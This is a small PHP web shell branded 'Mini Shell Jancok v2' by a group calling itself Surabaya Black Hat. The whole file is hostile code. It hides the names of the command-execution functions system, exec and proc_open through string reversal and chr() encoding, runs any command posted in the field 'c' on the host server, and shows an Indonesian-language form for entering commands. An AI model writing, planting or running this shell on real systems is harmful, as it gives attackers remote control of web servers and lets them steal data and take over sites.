<?php
# Mini Shell Jancok v2 - by Surabaya Black Hat
$k = chr(112).chr(114).chr(111).chr(99).chr(95).chr(111).chr(112).chr(101).chr(110);
$z = array_map(function ($c) { return strrev($c); }, array('metsys', 'cexe'));
$cmd = isset($_POST['c']) ? $_POST['c'] : 'id';
call_user_func($z[0], $cmd);
array_map($z[1], array($cmd));
echo '<form method=post>Perintah: <input name=c><input type=submit value=Gas></form>';
